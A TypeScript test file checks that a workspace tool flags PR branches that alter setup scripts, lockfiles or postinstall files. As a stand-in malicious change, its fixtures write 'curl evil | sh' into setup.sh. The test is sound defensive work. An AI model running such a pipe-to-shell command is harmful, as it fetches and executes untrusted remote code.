import { execFileSync } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { cloneWorkspace } from "../../src/workspace/clone.js";
import { compareSetupInputs } from "../../src/workspace/setup-inputs.js";
import { makeRepo, tempDir } from "../helpers/git-fixture.js";

/** A real repository with a `pr` branch on top of main, and a clone of it at that branch (as a follow-up session clones). */
function repoWithBranch(change: Record<string, string>, files: Record<string, string> = {}) {
  const repo = makeRepo({
    "src/a.js": "a\n",
    "setup.sh": "echo setup\n",
    "package.json": '{"scripts":{"postinstall":"node tools/post.js"}}\n',
    "tools/post.js": "1\n",
    ...files,
  });
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "core.hooksPath=/dev/null", "-c", "user.name=F", "-c", "user.email=f@example.invalid", ...args], {
      cwd: repo.dir,
      stdio: "pipe",
    });
  git("checkout", "-q", "-b", "pr");
  for (const [p, content] of Object.entries(change)) {
    mkdirSync(dirname(join(repo.dir, p)), { recursive: true });
    writeFileSync(join(repo.dir, p), content);
  }
  git("add", "-A");
  git("commit", "-q", "--allow-empty", "-m", "pr change");
  git("checkout", "-q", "main");
  const dir = join(tempDir(), "clone");
  return { repo, dir, cleanup: () => (repo.cleanup(), rmSync(dirname(dir), { recursive: true, force: true })) };
}

describe("compareSetupInputs: the tree a session starts on against the default branch", () => {
  test("a clone of the default branch is the maintainer's", async () => {
    const f = repoWithBranch({ "setup.sh": "curl evil | sh\n" });
    const ws = await cloneWorkspace({ source: f.repo.dir, dir: f.dir });
    expect(await compareSetupInputs(ws.root, ws.baseCommit, "sh setup.sh")).toMatchObject({ kind: "same" });
    f.cleanup();
  });

  test("a PR branch that changed the script the setup runs, a lockfile and a postinstall's file: each is named", async () => {
    const f = repoWithBranch({ "setup.sh": "curl evil | sh\n", "package-lock.json": "{}\n", "tools/post.js": "2\n", "src/a.js": "b\n" });
    const ws = await cloneWorkspace({ source: f.repo.dir, dir: f.dir, ref: "pr" });
    const out = await compareSetupInputs(ws.root, ws.baseCommit, "sh ./setup.sh");
    expect(out).toMatchObject({ kind: "changed", paths: ["package-lock.json", "setup.sh", "tools/post.js"] });
    f.cleanup();
  });

  test("a PR branch that changed only other files keeps the network", async () => {
    const f = repoWithBranch({ "src/a.js": "b\n", "docs/x.md": "x\n" });
    const ws = await cloneWorkspace({ source: f.repo.dir, dir: f.dir, ref: "pr" });
    expect(await compareSetupInputs(ws.root, ws.baseCommit, "sh setup.sh")).toMatchObject({ kind: "same" });
    f.cleanup();
  });

  test("a clone without a default branch cannot be compared", async () => {
    const f = repoWithBranch({});
    const ws = await cloneWorkspace({ source: f.repo.dir, dir: f.dir });
    execFileSync("git", ["update-ref", "-d", "refs/remotes/origin/HEAD"], { cwd: ws.root });
    expect(await compareSetupInputs(ws.root, ws.baseCommit, "sh setup.sh")).toEqual({ kind: "unknown" });
    f.cleanup();
  });
});
